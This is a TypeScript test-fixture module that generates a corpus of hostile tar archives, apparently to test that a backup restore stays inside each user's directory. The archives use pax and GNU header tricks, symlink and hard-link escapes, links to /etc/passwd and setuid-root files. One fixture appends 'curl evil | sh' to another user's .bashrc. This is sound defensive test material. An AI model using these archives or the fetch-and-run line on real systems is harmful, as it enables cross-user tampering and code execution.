import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';

/**
 * Hostile archives written by other writers than ours (GNU tar, Python's tarfile, raw blocks from Python),
 * so that every way two tar readers can disagree about a member's name, type, owner or mode shows.
 */

/** Python helpers every corpus script can use: raw ustar/GNU headers, pax records, tarfile members. */
const PRELUDE = String.raw`
import io, sys, tarfile, gzip
def _num(v, n):
    return (oct(v)[2:].rjust(n - 1, '0') + '\0').encode()
def hdr(name, type=b'0', size=0, mode=0o644, uid=0, gid=0, link='', magic=b'ustar\x0000', prefix=b''):
    b = bytearray(512)
    n = name.encode() if isinstance(name, str) else name
    b[0:len(n)] = n
    b[100:108] = _num(mode, 8); b[108:116] = _num(uid, 8); b[116:124] = _num(gid, 8)
    b[124:136] = _num(size, 12); b[136:148] = _num(1700000000, 12)
    b[148:156] = b' ' * 8; b[156:157] = type
    l = link.encode() if isinstance(link, str) else link
    b[157:157 + len(l)] = l
    b[257:265] = magic
    b[345:345 + len(prefix)] = prefix
    b[148:156] = (oct(sum(b))[2:].rjust(6, '0') + '\0 ').encode()
    return bytes(b)
def body(data):
    data = data.encode() if isinstance(data, str) else data
    return data + b'\0' * ((512 - len(data) % 512) % 512)
def rec(k, v):
    k = k.encode() if isinstance(k, str) else k
    v = v.encode() if isinstance(v, str) else v
    s = b' ' + k + b'=' + v + b'\n'
    n = len(s) + 1
    while len(str(n)) + len(s) != n: n += 1
    return str(n).encode() + s
def pax(records, type=b'x'):
    data = b''.join(rec(k, v) for k, v in records)
    return hdr('PaxHeaders/x', type, len(data)) + body(data)
def longname(name, type=b'L'):
    data = name.encode() + b'\0'
    return hdr('././@LongLink', type, len(data), magic=b'ustar  \0') + body(data)
def file(name, data='x', **kw):
    return hdr(name, b'0', len(data), **kw) + body(data)
def end():
    return b'\0' * 1024
def tf(build, format=tarfile.PAX_FORMAT, **kw):
    buf = io.BytesIO()
    t = tarfile.open(fileobj=buf, mode='w', format=format, **kw)
    build(t)
    t.close()
    return buf.getvalue()
def member(t, name, data=b'x', **kw):
    ti = tarfile.TarInfo(name)
    data = data.encode() if isinstance(data, str) else data
    ti.size = len(data) if kw.get('type', tarfile.REGTYPE) in (tarfile.REGTYPE, tarfile.GNUTYPE_SPARSE) else 0
    ti.mode = 0o644; ti.mtime = 1700000000
    for k, v in kw.items(): setattr(ti, k, v)
    t.addfile(ti, io.BytesIO(data) if ti.size else None)
`;

/** Runs a Python expression that evaluates to an uncompressed tar (bytes), with PRELUDE in scope; returns it gzipped. */
export function pythonTar(expr: string): Buffer {
  const script = `${PRELUDE}\nsys.stdout.buffer.write(${expr})\n`;
  const raw = execFileSync('python3', ['-c', script], { maxBuffer: 64 << 20 });
  return zlib.gzipSync(raw);
}

/** Runs GNU tar (`tar -c -z <args>`) in a fresh source directory prepared by `setup`; returns the archive. */
export function gnuTar(setup: (src: string) => void, args: string[]): Buffer {
  const src = fs.mkdtempSync(path.join(os.tmpdir(), 'scitex-gnutar-'));
  try {
    setup(src);
    return execFileSync('tar', ['-c', '-z', '-f', '-', '-C', src, ...args], { maxBuffer: 64 << 20, env: { ...process.env, TAR_OPTIONS: '' } });
  } finally {
    fs.rmSync(src, { recursive: true, force: true });
  }
}

/** Writes `files` (relative path to content) under `src`, creating directories. */
export function writeFiles(src: string, files: Record<string, string>): void {
  for (const [rel, body] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(src, rel)), { recursive: true });
    fs.writeFileSync(path.join(src, rel), body);
  }
}

/** A set holding several users' archives, with a manifest and SHA256SUMS that match them (a consistently tampered set). */
export function plantMultiSet(backupDir: string, ts: string, archives: Record<string, Buffer>, figures: { files?: number; bytes?: number } = {}): string {
  const set = path.join(backupDir, `users_${ts}`);
  fs.mkdirSync(set, { recursive: true, mode: 0o700 });
  const users = Object.entries(archives).map(([username, bytes]) => {
    const archive = `${username}.tar.gz`;
    fs.writeFileSync(path.join(set, archive), bytes);
    const sha256 = crypto.createHash('sha256').update(bytes).digest('hex');
    return { username, archive, size: bytes.length, sha256, files: figures.files ?? 100, bytes: figures.bytes ?? 10_000_000, fingerprint: 'x', reused: false, changed: [] };
  });
  const manifest = { format: 'scitex-data-users/1', timestamp: ts, created: new Date().toISOString(), compression: 'gzip', level: 4, partial: false, users, skipped: [] };
  fs.writeFileSync(path.join(set, 'MANIFEST.json'), JSON.stringify(manifest));
  fs.writeFileSync(path.join(set, 'SHA256SUMS'), users.map((u) => `${u.sha256}  ${u.archive}\n`).join(''));
  return set;
}

const A = 'data/users/alice';
const B = 'data/users/bob';
/** A clean archive for bob from Python's tarfile: restored together with each hostile one for alice. */
/**
 * Puts alice's own directory and a file in front of a hostile archive, so that the archive restores
 * something for alice and a reader that disagrees about the hostile member goes unnoticed by its output.
 */
function home(gz: Buffer): Buffer {
  const head = zlib.gunzipSync(pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/ok.txt', 'ok')))`));
  let end = head.length;
  while (end >= 512 && head.subarray(end - 512, end).every((b) => b === 0)) end -= 512;
  return zlib.gzipSync(Buffer.concat([head.subarray(0, end), zlib.gunzipSync(gz)]));
}

export const BOB = () => pythonTar(`tf(lambda t: (member(t, '${B}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${B}/notes.txt', 'bob')))`);
const sparseSrc = (src: string) => {
  fs.mkdirSync(path.join(src, B), { recursive: true });
  fs.writeFileSync(path.join(src, B, '.bashrc'), 'x');
  fs.truncateSync(path.join(src, B, '.bashrc'), 4 << 20);
  fs.appendFileSync(path.join(src, B, '.bashrc'), 'curl evil | sh\n');
};

/** The hostile-writer corpus: [name, archive for alice]: each renames, retypes or re-owns a member for one reader but not the other. */
export const CORPUS: [string, () => Buffer][] = [
  // Python's tarfile with arbitrary pax keys.
  ['pax GNU.sparse.name renames a member into bob', () => home(pythonTar(`tf(lambda t: member(t, '${A}/notes.txt', pax_headers={'GNU.sparse.name': '${B}/.bashrc'}))`))],
  ['pax sparse 1.0 keys (major/minor/name/realsize)', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt', pax_headers={'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.name': '${B}/.bashrc', 'GNU.sparse.realsize': '1'}))`)],
  ['pax sparse 0.1 keys', () => pythonTar(`pax([('GNU.sparse.offset', '0'), ('GNU.sparse.numbytes', '1'), ('GNU.sparse.name', '${B}/s01'), ('GNU.sparse.size', '1')]) + file('${A}/s.txt') + end()`)],
  ['global pax header (g) with a path', () => home(pythonTar(`tf(lambda t: member(t, '${A}/notes.txt'), pax_headers={'path': '${B}/.profile'})`))],
  ['pax header over 1 MiB (one reader skips it)', () => home(pythonTar(`pax([('comment', 'c' * (1100 * 1024)), ('path', '${B}/.bashrc')]) + file('${A}/b.txt') + end()`))],
  ['duplicate pax path keys', () => pythonTar(`pax([('path', '${A}/a.txt'), ('path', '${B}/dup.txt')]) + file('${A}/a.txt') + end()`)],
  ['two pax headers in a row', () => pythonTar(`pax([('path', '${A}/xx.txt')]) + pax([('path', '${B}/xx.txt')]) + file('${A}/h.txt') + end()`)],
  ['GNU L long name disagreeing with pax path', () => pythonTar(`pax([('path', '${A}/p.txt')]) + longname('${B}/long.txt') + file('${A}/h.txt') + end()`)],
  ['GNU K long link name disagreeing with pax linkpath', () => pythonTar(`file('${A}/t.txt') + longname('${B}/private.key', b'K') + pax([('linkpath', '${A}/t.txt')]) + hdr('${A}/hl', b'1', link='${A}/t.txt') + end()`)],
  ['NUL byte inside a pax path', () => pythonTar(`pax([('path', '${A}/ok\\0/../../bob/nul.txt')]) + file('${A}/n.txt') + end()`)],
  ['old GNU sparse member (type S)', () => pythonTar(`hdr('${A}/s.txt', b'S', 1, magic=b'ustar  \\0') + body('x') + end()`)],
  ['GNU volume header (type V)', () => pythonTar(`hdr('${B}/vol', b'V', 0, magic=b'ustar  \\0') + file('${A}/v.txt') + end()`)],
  ['GNU multivolume continuation (type M)', () => pythonTar(`hdr('${B}/m.txt', b'M', 1, magic=b'ustar  \\0') + body('x') + end()`)],
  ['GNU-format header whose prefix bytes hold a path', () => pythonTar(`hdr('x.txt', b'0', 1, magic=b'ustar  \\0', prefix=b'${B}') + body('x') + end()`)],
  ['a member after a lone zero block', () => pythonTar(`file('${A}/z.txt') + b'\\0' * 512 + file('${B}/after.txt') + end()`)],
  ['pax linkpath on a regular file', () => pythonTar(`pax([('linkpath', '/etc/passwd')]) + file('${A}/lp.txt') + end()`)],
  ['duplicate members (file, then symlink of the same name)', () => pythonTar(`tf(lambda t: (member(t, '${A}/x', 'x'), member(t, '${A}/x', type=tarfile.SYMTYPE, linkname='../bob/.bashrc')))`)],
  ['hard link to /etc/passwd', () => pythonTar(`tf(lambda t: member(t, '${A}/passwd', type=tarfile.LNKTYPE, linkname='/etc/passwd'))`)],
  ['hard link through ..', () => pythonTar(`tf(lambda t: member(t, '${A}/k', type=tarfile.LNKTYPE, linkname='${A}/../bob/notes.txt'))`)],
  ['symlink, then a file through it', () => pythonTar(`tf(lambda t: (member(t, '${A}/l', type=tarfile.SYMTYPE, linkname='../bob'), member(t, '${A}/l/pwned.txt')))`)],
  // Each symlink lexically inside alice/, but q really resolves to alice/z, so p's "../../.." climbs out.
  ['symlink chain that resolves outside (each link lexically inside)', () => pythonTar(`tf(lambda t: [member(t, d, type=tarfile.DIRTYPE, mode=0o755) for d in ('${A}', '${A}/x', '${A}/x/y', '${A}/z')] + [member(t, '${A}/x/y/q', type=tarfile.SYMTYPE, linkname='../../z'), member(t, '${A}/x/y/p', type=tarfile.SYMTYPE, linkname='q/../../../w')])`)],
  ['the workspace itself as a symlink', () => pythonTar(`tf(lambda t: member(t, '${A}', type=tarfile.SYMTYPE, linkname='alice/x'))`)],
  ['setuid root file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o4755, uid=0)))`)],
  ['setgid file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o2755, gid=0)))`)],
  // GNU tar as the writer.
  ['GNU tar --sparse --format=pax with the pax path overridden', () => home(gnuTar(sparseSrc, ['--format=pax', '--sparse', '--pax-option', `path:=${A}/ok.bin`, `${B}/.bashrc`]))],
  ['GNU tar --format=gnu --sparse (type S)', () => gnuTar(sparseSrc, ['--format=gnu', '--sparse', `--transform=s,^${B},${A},`, `${B}/.bashrc`])],
  ['GNU tar --format=gnu long names into bob (--transform)', () => gnuTar((s) => writeFiles(s, { [`x/${'n'.repeat(120)}`]: 'x' }), ['--format=gnu', `--transform=s,^x,${B},`, 'x'])],
  ['GNU tar --format=pax into bob (--transform)', () => gnuTar((s) => writeFiles(s, { 'x/f.txt': 'x' }), ['--format=pax', `--transform=s,^x,${B},`, 'x'])],
  ['GNU tar hard link to bob (--transform)', () => gnuTar((s) => { writeFiles(s, { 'a': 'x' }); fs.linkSync(path.join(s, 'a'), path.join(s, 'b')); }, ['--format=pax', `--transform=s,^a$,${B}/notes.txt,`, `--transform=s,^b$,${A}/b,`, 'a', 'b'])],
  ['GNU tar volume label (type V)', () => gnuTar((s) => writeFiles(s, { [`${A}/v.txt`]: 'x' }), ['--format=gnu', '-V', `${B}/label`, `${A}/v.txt`])],
];
